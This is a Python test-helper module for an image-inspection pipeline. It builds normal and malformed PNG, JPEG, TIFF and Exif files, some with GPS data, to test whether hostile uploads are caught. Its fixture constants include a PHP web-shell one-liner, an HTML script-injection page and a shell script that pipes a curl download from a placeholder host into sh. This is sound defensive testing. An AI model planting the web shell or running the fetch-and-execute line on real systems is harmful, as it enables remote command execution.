"""Pictures for tests, honest and hostile, each made when it is needed."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from random import Random
from typing import Any

import numpy as np
import tifffile
from PIL import Image

from nachet_pipeline.contract.catalogue import CATALOGUE, Severity
from nachet_pipeline.pictures.inspected import Inspected, Thumbnail
from nachet_pipeline.pictures.inspection import inspect_picture
from nachet_pipeline.pictures.issues import Issue
from nachet_pipeline.pictures.limits import PictureLimits

LIMITS = PictureLimits()
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
WINDOWS_PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PDF = b"%PDF-1.7\n1 0 obj\n"
SHELL = b"#!/bin/sh\ncurl -s http://example.org/run | sh\n"


def zip_archive(size: int = 200) -> bytes:
    """A ZIP with one member of noise."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(zipfile.ZipInfo("run.exe"), Random(3).randbytes(size))
    return stream.getvalue()


def seed_image(mode: str = "RGB", size: tuple[int, int] = (24, 16)) -> Image.Image:
    """Noise, which hides no damage."""
    noise = Random(1).randbytes(size[0] * size[1] * 4)
    return Image.frombytes("RGBA", size, noise).convert("RGB" if mode == "RGB" else "L").convert(mode)


def saved(image: Image.Image, picture_format: str, **options: Any) -> bytes:
    """What Pillow writes."""
    stream = io.BytesIO()
    image.save(stream, picture_format, **options)
    return stream.getvalue()


def tiff_of(array: "np.ndarray[Any, Any]", **options: Any) -> bytes:
    """What tifffile writes."""
    stream = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        tifffile.imwrite(stream, array, **options)
    return stream.getvalue()


def noise(shape: tuple[int, ...], kind: str = "u1") -> "np.ndarray[Any, Any]":
    """Random numbers of a type that NumPy calls so."""
    generator = np.random.default_rng(1)
    if np.dtype(kind).kind == "f":
        return generator.random(shape).astype(kind)
    return generator.integers(0, np.iinfo(kind).max, shape, dtype=kind)


def png_chunks(content: bytes) -> list[tuple[bytes, bytes]]:
    """Kind and data of each chunk."""
    chunks = []
    place = 8
    while place + 12 <= len(content):
        (size,) = struct.unpack_from(">I", content, place)
        chunks.append((content[place + 4 : place + 8], content[place + 8 : place + 8 + size]))
        place += 12 + size
    return chunks


def png_of(chunks: Iterable[tuple[bytes, bytes]]) -> bytes:
    """A PNG of these chunks, with right checksums."""
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def with_chunks(content: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG with more chunks, right after its header."""
    header, *others = png_chunks(content)
    return png_of([header, *chunks, *others])


def with_pixels(content: bytes, stream: bytes) -> bytes:
    """A PNG with another compressed stream."""
    chunks = [chunk for chunk in png_chunks(content) if chunk[0] != b"IDAT"]
    return png_of([*chunks[:-1], (b"IDAT", stream), chunks[-1]])


def pixels_of(content: bytes) -> bytes:
    """The compressed stream of a PNG."""
    return b"".join(data for kind, data in png_chunks(content) if kind == b"IDAT")


def interlaced_png(width: int, height: int, bits: int = 8) -> bytes:
    """A grey picture in Adam7's seven passes, which Pillow reads and does not write."""
    raw = bytearray()
    for left, across, top, down in (
        (0, 8, 0, 8),
        (4, 8, 0, 8),
        (0, 4, 4, 8),
        (2, 4, 0, 4),
        (0, 2, 2, 4),
        (1, 2, 0, 2),
        (0, 1, 1, 2),
    ):
        columns = len(range(left, width, across))
        for _ in range(top, height, down) if columns else ():
            raw += b"\0" + bytes(-(-columns * bits // 8))
    header = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 1)
    return png_of([(b"IHDR", header), (b"IDAT", zlib.compress(bytes(raw))), (b"IEND", b"")])


def jpeg_segment(marker: int, value: bytes) -> bytes:
    """A marker with its value."""
    return bytes((0xFF, marker)) + struct.pack(">H", 2 + len(value)) + value


def with_segments(content: bytes, *segments: tuple[int, bytes]) -> bytes:
    """A JPEG with more segments, right after its start."""
    return content[:2] + b"".join(jpeg_segment(*segment) for segment in segments) + content[2:]


Entry = tuple[int, int, int, bytes]
"""Tag, type, count and value of a directory's entry."""


def short(*numbers: int) -> tuple[int, int, bytes]:
    """Whole numbers of two bytes, as `Entry` wants them after the tag."""
    return 3, len(numbers), struct.pack(f"<{len(numbers)}H", *numbers)


def long(*numbers: int) -> tuple[int, int, bytes]:
    """Whole numbers of four bytes."""
    return 4, len(numbers), struct.pack(f"<{len(numbers)}I", *numbers)


def text(value: bytes) -> tuple[int, int, bytes]:
    """ASCII with the NUL that ends it."""
    return 2, len(value) + 1, value + b"\0"


def directory(entries: Iterable[Entry], place: int, following: int = 0) -> bytes:
    """A little-endian directory that will lie at `place`, with its values right after it."""
    entries = sorted(entries)
    values_at = place + 2 + 12 * len(entries) + 4
    table, values = b"", b""
    for tag, kind, count, value in entries:
        if len(value) <= 4:
            field = value.ljust(4, b"\0")
        else:
            field = struct.pack("<I", values_at + len(values))
            values += value + b"\0" * (len(value) % 2)
        table += struct.pack("<HHI", tag, kind, count) + field
    return struct.pack("<H", len(entries)) + table + struct.pack("<I", following) + values


def grey_tiff(
    extra: Iterable[Entry] = (), *, without: Iterable[int] = (), behind: bytes = b"", following: int = 0
) -> bytes:
    """A raw grey picture of 8 by 8 pixels at offset 8, its directory at 72, whatever is wanted behind it.

    Args:
        extra: more entries, or others.
        without: tags to leave out.
        behind: bytes after all else.
        following: where the next directory lies.
    """
    entries: dict[int, Entry] = {
        256: (256, *short(8)),
        257: (257, *short(8)),
        258: (258, *short(8)),
        259: (259, *short(1)),
        262: (262, *short(1)),
        273: (273, *long(8)),
        277: (277, *short(1)),
        278: (278, *short(8)),
        279: (279, *long(64)),
    }
    entries |= {entry[0]: entry for entry in extra}
    kept = [entry for tag, entry in entries.items() if tag not in set(without)]
    return b"II*\0" + struct.pack("<I", 72) + Random(5).randbytes(64) + directory(kept, 72, following) + behind


def exif_of(entries: Iterable[Entry] = (), *, exif: Iterable[Entry] = (), gps: Iterable[Entry] = ()) -> bytes:
    """An Exif block with directories for the camera and its place."""
    exif, gps = list(exif), list(gps)
    main = list(entries) + ([(34665, *long(0))] if exif else []) + ([(34853, *long(0))] if gps else [])
    place = 8 + len(directory(main, 8))
    parts = b""
    for tag, inner in ((34665, exif), (34853, gps)):
        if inner:
            main = [(tag, *long(place + len(parts))) if entry[0] == tag else entry for entry in main]
            parts += directory(inner, place + len(parts))
    return b"II*\0\x08\0\0\0" + directory(main, 8) + parts


def position(latitude: int = 45, longitude: int = 75) -> list[Entry]:
    """What a camera with a receiver writes."""
    angle = (5, 3)
    return [
        (1, *text(b"N")),
        (2, *angle, struct.pack("<6I", latitude, 1, 25, 1, 0, 1)),
        (3, *text(b"W")),
        (4, *angle, struct.pack("<6I", longitude, 1, 42, 1, 0, 1)),
    ]


def inspect(
    picture_format: str, content: bytes, limits: PictureLimits = LIMITS, thumbnail: Thumbnail = Thumbnail.NEVER
) -> Inspected:
    """`inspect_picture`, with what must hold of every answer."""
    found = inspect_picture(content, picture_format, limits, thumbnail=thumbnail)
    assert (found.properties is None) == any(issue.fatal for issue in found.issues)
    assert len({(issue.code, issue.field) for issue in found.issues}) == len(found.issues) <= 50
    return found


def codes(picture_format: str, content: bytes, limits: PictureLimits = LIMITS) -> set[str]:
    """The codes of all issues."""
    return {issue.code for issue in inspect(picture_format, content, limits).issues}


def only(picture_format: str, content: bytes, limits: PictureLimits = LIMITS) -> Issue:
    """The one issue that there is."""
    (issue,) = inspect(picture_format, content, limits).issues
    return issue


def is_refused(picture_format: str, content: bytes) -> bool:
    """Whether the catalogue calls one of the issues an error."""
    issues = inspect_picture(content, picture_format, LIMITS).issues
    return any(CATALOGUE[issue.code].severity is Severity.ERROR for issue in issues)


def changed_bits(content: bytes, start: int, end: int, times: int) -> Iterator[bytes]:
    """Copies with one bit flipped between two places, the same ones every time."""
    random = Random(7)
    for _ in range(times):
        place = random.randrange(start, end)
        yield content[:place] + bytes([content[place] ^ (1 << random.randrange(8))]) + content[place + 1 :]
